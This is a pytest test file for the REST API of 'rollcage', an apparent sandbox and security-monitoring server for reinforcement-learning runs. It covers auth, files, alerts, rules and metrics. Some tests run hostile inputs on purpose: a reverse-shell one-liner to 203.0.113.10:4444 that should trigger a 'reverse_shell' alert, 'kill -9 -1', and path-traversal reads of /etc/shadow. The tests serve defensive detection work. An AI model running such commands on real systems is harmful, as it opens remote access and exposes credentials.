"""The admin server's REST API: auth, sandboxes, files, alerts, runs, rules, metrics."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from rollcage.events import Attribution, Event, EventStore
from rollcage.server.app import ServerSettings, create_app
from rollcage.server.auth import load_or_create_token
from rollcage.server.sample_data import write_sample_run

TOKEN = "test-token-123"
H = {"Authorization": f"Bearer {TOKEN}"}


@pytest.fixture
def settings(tmp_path: Path) -> ServerSettings:
    return ServerSettings(token=TOKEN, event_db=tmp_path / "events.db", runs_dir=tmp_path / "runs",
                          max_upload_bytes=1024 * 1024, max_sandboxes=4)  # fmt: skip


@pytest.fixture
def client(settings: ServerSettings) -> Iterator[TestClient]:
    with TestClient(create_app(settings)) as c:
        yield c


@pytest.fixture
def sample(settings: ServerSettings) -> dict:
    store = EventStore(settings.event_db)
    try:
        return write_sample_run(settings.runs_dir, store)
    finally:
        store.close()


def test_health_needs_no_token(client: TestClient) -> None:
    r = client.get("/health")
    assert r.status_code == 200 and r.json()["status"] == "ok"


def test_every_api_route_needs_the_token(client: TestClient) -> None:
    schema = client.get("/openapi.json").json()
    checked = 0
    for path, ops in schema["paths"].items():
        if path == "/health":
            continue
        url = path.replace("{sandbox_id}", "x").replace("{run_id}", "x").replace("{episode_id}", "x")
        for method in ops:
            for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {TOKEN}"}):
                r = client.request(method.upper(), url, headers=headers)
                assert r.status_code == 401, (method, path, headers, r.text)
                assert r.headers["www-authenticate"] == "Bearer"
                assert "bearer token" in r.json()["detail"]
                checked += 1
    assert checked > 40


def test_token_file_is_created_owner_only_and_reused(tmp_path: Path) -> None:
    path = tmp_path / "state" / "server.token"
    token = load_or_create_token(path)
    assert len(token) >= 32
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert load_or_create_token(path) == token
    os.chmod(path, 0o644)
    with pytest.raises(Exception, match="readable by others"):
        load_or_create_token(path)


def test_sandbox_lifecycle(client: TestClient) -> None:
    r = client.post("/v1/sandboxes", json={"config": {"memory": "256m", "pids": 128}, "run_id": "r", "episode_id": "e"},
                    headers=H)  # fmt: skip
    assert r.status_code == 201, r.text
    info = r.json()
    sid = info["id"]
    assert info["state"] == "running" and info["config"]["memory"] == 256 * 2**20 and info["run_id"] == "r"
    try:
        assert [s["id"] for s in client.get("/v1/sandboxes", headers=H).json()] == [sid]
        run = lambda body: client.post(f"/v1/sandboxes/{sid}/commands", json=body, headers=H)  # noqa: E731
        assert run({"command": "cd /tmp && export X=7"}).json()["exit_code"] == 0
        out = run({"command": "pwd; echo $X"}).json()
        assert out["output"] == "/tmp\n7\n" and out["session"] == "default"
        other = run({"command": "pwd", "session": "second"}).json()
        assert other["output"].strip() == "/work" and other["session"] == "second"
        slow = run({"command": "sleep 5", "timeout": 0.5}).json()
        assert slow["timed_out"] and slow["exit_code"] == 124
        # files
        assert client.put(f"/v1/sandboxes/{sid}/files", params={"path": "/work/d/a.bin"}, content=b"\x00\xffab",
                          headers=H).status_code == 204  # fmt: skip
        got = client.get(f"/v1/sandboxes/{sid}/files", params={"path": "/work/d/a.bin"}, headers=H)
        assert got.status_code == 200 and got.content == b"\x00\xffab"
        assert got.headers["content-type"] == "application/octet-stream"
        assert run({"command": "cat /work/d/a.bin | wc -c"}).json()["output"].strip() == "4"
    finally:
        assert client.delete(f"/v1/sandboxes/{sid}", headers=H).status_code == 204
    assert client.get(f"/v1/sandboxes/{sid}", headers=H).status_code == 404
    assert client.post(f"/v1/sandboxes/{sid}/commands", json={"command": "true"}, headers=H).status_code == 404
    assert client.get("/v1/sandboxes", headers=H).json() == []


def test_a_command_that_kills_its_sandbox_is_a_409_not_a_500(client: TestClient) -> None:
    sid = client.post("/v1/sandboxes", json={"config": {"memory": "256m"}}, headers=H).json()["id"]
    r = client.post(f"/v1/sandboxes/{sid}/commands", json={"command": "kill -9 -1; exit 3"}, headers=H)
    if r.status_code == 409:
        assert "stopped" in r.json()["detail"]
        assert client.get(f"/v1/sandboxes/{sid}", headers=H).status_code == 404
    else:
        assert r.status_code == 200
        client.delete(f"/v1/sandboxes/{sid}", headers=H)
    assert client.get("/health").status_code == 200


def test_bad_input_gets_clear_4xx(client: TestClient) -> None:
    def post(body: object) -> tuple[int, str]:
        r = client.post("/v1/sandboxes", json=body, headers=H)
        return r.status_code, r.json()["detail"]

    assert post({"config": {"memory": "lots"}}) == (422, "invalid request: config.memory: invalid size 'lots': "
                                                         "use bytes or a string like '512m', '2g'")  # fmt: skip
    status, detail = post({"config": {"workdir": "/"}})
    assert status == 422 and "workdir" in detail and "shadow" in detail
    status, detail = post({"config": {"network": ["http://evil.example/"]}})
    assert status == 422 and "not a URL" in detail
    status, detail = post({"config": {"rootfs": "/"}})
    assert status == 422 and "rootfs" in detail
    status, detail = post({"config": {"cpus": -1}})
    assert status == 422 and "config.cpus" in detail
    r = client.post("/v1/sandboxes", content=b"{not json", headers={**H, "Content-Type": "application/json"})
    assert r.status_code == 422 and r.json()["error"] == "validation_error"
    assert client.get("/v1/sandboxes/sb-nope", headers=H).json() == {
        "detail": "no sandbox 'sb-nope' on this server", "error": "not_found"}  # fmt: skip
    assert client.get("/v1/nothing-here", headers=H).status_code == 404
    assert client.get("/v1/alerts", params={"limit": 0}, headers=H).status_code == 422
    assert client.get("/v1/alerts", params={"since": "yesterday"}, headers=H).status_code == 422


def test_command_and_file_errors(client: TestClient) -> None:
    sid = client.post("/v1/sandboxes", json={"config": {"memory": "256m"}}, headers=H).json()["id"]
    try:
        bad_session = client.post(f"/v1/sandboxes/{sid}/commands", json={"command": "x", "session": "../x"}, headers=H)
        assert bad_session.status_code == 422 and "session" in bad_session.json()["detail"]
        nul = client.post(f"/v1/sandboxes/{sid}/commands", json={"command": "echo \0"}, headers=H)
        assert nul.status_code == 422 and "NUL" in nul.json()["detail"]
        missing = client.get(f"/v1/sandboxes/{sid}/files", params={"path": "/work/none"}, headers=H)
        assert missing.status_code == 404 and "no such file" in missing.json()["detail"]
        relative = client.get(f"/v1/sandboxes/{sid}/files", params={"path": "etc/passwd"}, headers=H)
        assert relative.status_code == 400 and "absolute" in relative.json()["detail"]
        readonly = client.put(f"/v1/sandboxes/{sid}/files", params={"path": "/usr/x"}, content=b"1", headers=H)
        assert readonly.status_code == 400 and "read-only" in readonly.json()["detail"]
        big = client.put(f"/v1/sandboxes/{sid}/files", params={"path": "/work/big"}, content=b"x" * (1024 * 1024 + 1),
                         headers=H)  # fmt: skip
        assert big.status_code == 413 and "at most" in big.json()["detail"]
        client.put(f"/v1/sandboxes/{sid}/files", params={"path": "/work/k"}, content=b"x" * 100, headers=H)
        small = client.get(f"/v1/sandboxes/{sid}/files", params={"path": "/work/k", "max_bytes": 10}, headers=H)
        assert small.status_code == 413 and "max_bytes" in small.json()["detail"]
        escape = client.get(f"/v1/sandboxes/{sid}/files", params={"path": "/../../../etc/shadow"}, headers=H)
        assert escape.status_code in (400, 404)
    finally:
        client.delete(f"/v1/sandboxes/{sid}", headers=H)


def test_sandbox_limit_is_429(client: TestClient) -> None:
    ids = []
    try:
        for _ in range(4):
            ids.append(client.post("/v1/sandboxes", json={"config": {"memory": "64m"}}, headers=H).json()["id"])
        r = client.post("/v1/sandboxes", json={}, headers=H)
        assert r.status_code == 429 and "at most 4" in r.json()["detail"]
    finally:
        for sid in ids:
            client.delete(f"/v1/sandboxes/{sid}", headers=H)


def test_alerts_of_a_real_sandbox_are_attributed(client: TestClient) -> None:
    body = {"config": {"memory": "256m"}, "run_id": "run-x", "episode_id": "ep-9"}
    sid = client.post("/v1/sandboxes", json=body, headers=H).json()["id"]
    try:
        client.post(f"/v1/sandboxes/{sid}/commands", json={"command": "echo ok", "step": 0}, headers=H)
        cmd = "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"
        client.post(f"/v1/sandboxes/{sid}/commands", json={"command": cmd, "step": 1, "timeout": 5}, headers=H)
        alerts = client.get(f"/v1/sandboxes/{sid}/alerts", headers=H).json()
        assert alerts and {a["step"] for a in alerts} == {1}
        assert {a["run_id"] for a in alerts} == {"run-x"} and {a["episode_id"] for a in alerts} == {"ep-9"}
        assert any(a["category"] == "reverse_shell" for a in alerts)
        assert client.get(f"/v1/sandboxes/{sid}", headers=H).json()["alerts"] == len(alerts)
    finally:
        client.delete(f"/v1/sandboxes/{sid}", headers=H)


def test_alert_filters(client: TestClient, settings: ServerSettings) -> None:
    store = EventStore(settings.event_db)
    times = ["2026-01-01T00:00:00.000000Z", "2026-01-02T00:00:00.000000Z", "2026-01-03T00:00:00.000000Z"]
    specs = [("r1", "sb-a", "cryptomining", "critical"), ("r1", "sb-b", "tunnel", "high"),
             ("r2", "sb-a", "cryptomining", "low")]  # fmt: skip
    for when, (run, sb, cat, sev) in zip(times, specs, strict=True):
        store.emit(Event("alert", sb, Attribution(run, "e", 1), {"rule": "x", "category": cat, "severity": sev},
                         time=when))  # fmt: skip
    store.emit(Event("exec", "sb-a", Attribution("r1", "e", 1), {"pid": 1}, time=times[0]))
    store.close()

    def q(**params: object) -> list[tuple[str, str]]:
        r = client.get("/v1/alerts", params=params, headers=H)
        assert r.status_code == 200, r.text
        return [(a["run_id"], a["severity"]) for a in r.json()]

    assert q() == [("r1", "critical"), ("r1", "high"), ("r2", "low")]
    assert q(run_id="r1") == [("r1", "critical"), ("r1", "high")]
    assert q(sandbox_id="sb-a") == [("r1", "critical"), ("r2", "low")]
    assert q(category="cryptomining", severity=["critical", "high"]) == [("r1", "critical")]
    assert q(severity=["low", "high"]) == [("r1", "high"), ("r2", "low")]
    assert q(since="2026-01-02T00:00:00Z") == [("r1", "high"), ("r2", "low")]
    assert q(until="2026-01-02T00:00:00+00:00") == [("r1", "critical"), ("r1", "high")]
    assert q(since="2026-01-01T12:00:00+02:00", until="2026-01-02T12:00:00Z") == [("r1", "high")]
    assert q(limit=1) == [("r2", "low")]  # the newest
    first = client.get("/v1/alerts", headers=H).json()[0]["id"]
    assert q(after_id=first) == [("r1", "high"), ("r2", "low")]


def test_runs_episodes_and_trajectory(client: TestClient, sample: dict) -> None:
    runs = client.get("/v1/runs", headers=H).json()
    run = next(r for r in runs if r["run_id"] == "run-sample")
    assert run["episodes"] == 3 and run["successes"] == 1 and run["success_rate"] == pytest.approx(1 / 3, abs=1e-3)
    assert run["alerts_by_category"] == {"cryptomining": 2, "tunnel": 1} and run["name"] == "sample GRPO run"
    detail = client.get("/v1/runs/run-sample", headers=H).json()
    assert [e["episode_id"] for e in detail["episode_list"]] == ["ep-1", "ep-2", "ep-3"]
    assert {(a["episode_id"], a["step"], a["severity"]) for a in detail["alert_marks"]} == {
        ("ep-2", 1, "medium"), ("ep-2", 2, "critical"), ("ep-3", 1, "high")}  # fmt: skip
    assert len(client.get("/v1/runs/run-sample/episodes", headers=H).json()) == 3
    traj = client.get("/v1/runs/run-sample/episodes/ep-2", headers=H).json()
    assert [len(s["alerts"]) for s in traj["steps"]] == [0, 1, 1]
    critical = traj["steps"][2]["alerts"][0]
    assert critical["rule"] == "Stratum mining protocol"
    assert {e["type"] for e in critical["evidence"]} == {"flow", "exec"}
    assert traj["steps"][2]["tool_call"]["name"] == "bash" and traj["success"] is False
    assert client.get("/v1/runs/run-nope", headers=H).status_code == 404
    assert client.get("/v1/runs/run-sample/episodes/ep-9", headers=H).status_code == 404
    assert client.get("/v1/runs/..%2F..%2Fetc", headers=H).status_code == 404
    charts = client.get("/v1/events", params={"sandbox_id": "sb-sample02"}, headers=H).json()
    assert {e["type"] for e in charts} == {"resource", "gpu"}
    assert {s["sandbox_id"] for s in client.get("/v1/resources", headers=H).json()} == {
        "sb-sample01", "sb-sample02", "sb-sample03"}  # fmt: skip


def test_rules_list_validate_reload(tmp_path: Path) -> None:
    extra = tmp_path / "extra.yaml"
    rule = (
        "- rule: Test echo marker\n  condition: evt.type = command and cmd.line contains MARKER\n"
        "  output: marker seen\n  priority: WARNING\n  category: policy_violation\n  action: alert\n"
        "  tags: [T1059]\n"
    )
    extra.write_text(rule.replace("MARKER", "OLDMARK"))
    settings = ServerSettings(token=TOKEN, event_db=tmp_path / "e.db", runs_dir=tmp_path / "runs", rule_files=[extra])
    with TestClient(create_app(settings)) as client:
        names = {r["name"] for r in client.get("/v1/rules", headers=H).json()}
        assert "Test echo marker" in names and len(names) > 20
        ok = client.post("/v1/rules/validate", json={"yaml": rule}, headers=H).json()
        assert ok["ok"] is True and ok["rules"] > 20, ok
        bad = client.post("/v1/rules/validate", json={"yaml": "- rule: x\n  condition: type = = 3\n"}, headers=H)
        assert bad.status_code == 200 and bad.json()["ok"] is False
        assert bad.json()["errors"][0]["source"] == "<input>" and bad.json()["errors"][0]["line"] >= 1
        junk = client.post("/v1/rules/validate", json={"yaml": "{{{"}, headers=H).json()
        assert junk["ok"] is False
        extra.write_text(rule.replace("MARKER", "NEWMARK"))
        reloaded = client.post("/v1/rules/reload", headers=H)
        assert reloaded.status_code == 200 and reloaded.json()["files"] == [str(extra)]
        sid = client.post("/v1/sandboxes", json={"config": {"memory": "256m"}}, headers=H).json()["id"]
        try:
            client.post(f"/v1/sandboxes/{sid}/commands", json={"command": "echo NEWMARK"}, headers=H)
            rules = {a["rule"] for a in client.get(f"/v1/sandboxes/{sid}/alerts", headers=H).json()}
            assert "Test echo marker" in rules
        finally:
            client.delete(f"/v1/sandboxes/{sid}", headers=H)
        extra.write_text("- rule: broken\n")
        broken = client.post("/v1/rules/reload", headers=H)
        assert broken.status_code == 422 and "not reloaded" in broken.json()["detail"]
        assert "Test echo marker" in {r["name"] for r in client.get("/v1/rules", headers=H).json()}


def test_metrics(client: TestClient, sample: dict) -> None:
    client.get("/v1/runs", headers=H)
    text = client.get("/metrics", headers=H).text
    assert 'rollcage_alerts_total{category="cryptomining",severity="critical"} 1.0' in text
    assert 'rollcage_http_requests_total{method="GET",route="/v1/runs",status="200"}' in text
    assert "rollcage_sandboxes_open 0.0" in text


def test_dashboard_is_served_without_cdn(client: TestClient) -> None:
    page = client.get("/")
    assert page.status_code == 200 and "<html" in page.text
    for asset in ("app.js", "app.css"):
        r = client.get(f"/ui/static/{asset}")
        assert r.status_code == 200
        assert "http://" not in r.text and "https://" not in r.text.replace("https://github", "")
    assert "https://" not in page.text and "http://" not in page.text


def test_runs_written_by_the_rollout_store(client: TestClient, settings: ServerSettings) -> None:
    store_mod = pytest.importorskip("rollcage.rollout.store")
    import time

    with store_mod.RunStore(settings.runs_dir / "run-rollout", "run-rollout") as store:
        store.mark_running("ep-b", "fizzbuzz")
        store.append({"episode_id": "ep-a", "task": "csv-sum", "status": "submitted", "reward": 1.0, "success": True,
                      "started": time.time() - 5, "finished": time.time(), "alerts": [
                          {"rule": "r", "category": "tunnel", "severity": "high", "step": 1}],
                      "steps": [{"index": 1, "message": "m", "action": {"name": "bash", "arguments": {"command": "ls"}},
                                 "observation": "o", "started": time.time() - 4}]})  # fmt: skip
    run = next(r for r in client.get("/v1/runs", headers=H).json() if r["run_id"] == "run-rollout")
    assert run["episodes"] == 2 and run["successes"] == 1 and run["success_rate"] == 1.0
    episodes = client.get("/v1/runs/run-rollout/episodes", headers=H).json()
    assert {e["episode_id"]: e["terminated_by"] for e in episodes} == {"ep-a": "submitted", "ep-b": "running"}
    assert all(e["started"].endswith("Z") for e in episodes)
    traj = client.get("/v1/runs/run-rollout/episodes/ep-a", headers=H).json()
    step = traj["steps"][0]
    assert step["step"] == 1 and step["tool_call"]["name"] == "bash" and step["time"].endswith("Z")
    assert [a["rule"] for a in step["alerts"]] == ["r"]  # the rollout's own alerts when the store has none
    assert client.get("/v1/runs/run-rollout/episodes/ep-b", headers=H).status_code == 404
